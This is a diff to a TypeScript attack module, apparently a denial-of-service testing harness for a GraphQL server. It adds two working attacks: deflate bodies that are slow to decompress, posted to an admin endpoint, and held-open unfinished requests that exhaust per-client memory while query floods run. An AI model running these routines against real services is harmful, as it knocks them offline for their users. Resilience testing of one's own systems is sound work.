@@ -3,10 +3,13 @@ import { setTimeout as delay } from 'node:timers/promises';
 import { type Call, graphqlCall, sendGraphQL } from '../clients/http.js';
 import { createRandom } from '../random.js';
 import type { RunAttack } from './attack.js';
+import { emptyBlocks } from './empty-blocks.js';
 import { LARGE_OPERATIONS } from './large-operations.js';
 import { RAW_CONNECTIONS } from './raw-connections.js';
 import { burst, loop } from './requests.js';
 import { WEB_SOCKETS } from './web-sockets.js';
+
+const MIB = 1_048_576;
 
 /** Unique documents that are rejected for their length or syntax, with a multi-byte character. */
 const rejectedDocuments: RunAttack = (options, signal) => {
@@ -29,6 +32,38 @@ const costlyDocuments: RunAttack = (options, signal) => {
       { token },
     );
   });
+};
+
+/** Bodies without content that take long to decompress, from clients without a token. */
+const emptyBodies: RunAttack = ({ url, loops = 80 }, signal) => {
+  const body = emptyBlocks(100_000);
+  const headers = { 'content-type': 'application/json', 'content-encoding': 'deflate' };
+  return loop(url, signal, { loops }, () => ({
+    path: '/api/admin/search/events',
+    method: 'POST',
+    headers,
+    body,
+  }));
+};
+
+/** Unfinished bodies that use the whole memory share of a client, which starts reads that others share. */
+const fullShare: RunAttack = async ({ url, token, loops = 8 }, signal) => {
+  const { hostname, port } = new URL(url);
+  const hold = (bytes: number): void => {
+    if (signal.aborted) return;
+    const socket = connect(Number(port), hostname).on('error', () => undefined);
+    socket.resume().on('close', () => setTimeout(() => hold(bytes), 300));
+    signal.addEventListener('abort', () => socket.destroy());
+    socket.write(
+      `POST /graphql HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n` +
+        `Authorization: ${token}\r\nContent-Length: ${bytes}\r\n\r\n{`,
+    );
+  };
+  for (let held = 0; held < 32; held += 1) hold(MIB - (held === 0 ? 6_000 : 0));
+  return loop(url, signal, { loops }, (index) => ({
+    path: `/graphql?${new URLSearchParams({ query: `{ eventLog { settledId } a${index % 40}: __typename }` })}`,
+    headers: { authorization: token ?? '' },
+  }));
 };
 
 const LARGE_PAGE = 'events(first: 1000) { nodes { data preData } }';
@@ -233,6 +268,8 @@ export const ATTACKS = {
   bursts,
   smallReads,
   probes,
+  emptyBodies,
+  fullShare,
   retries,
   nonReadingSockets,
   hardOperations,
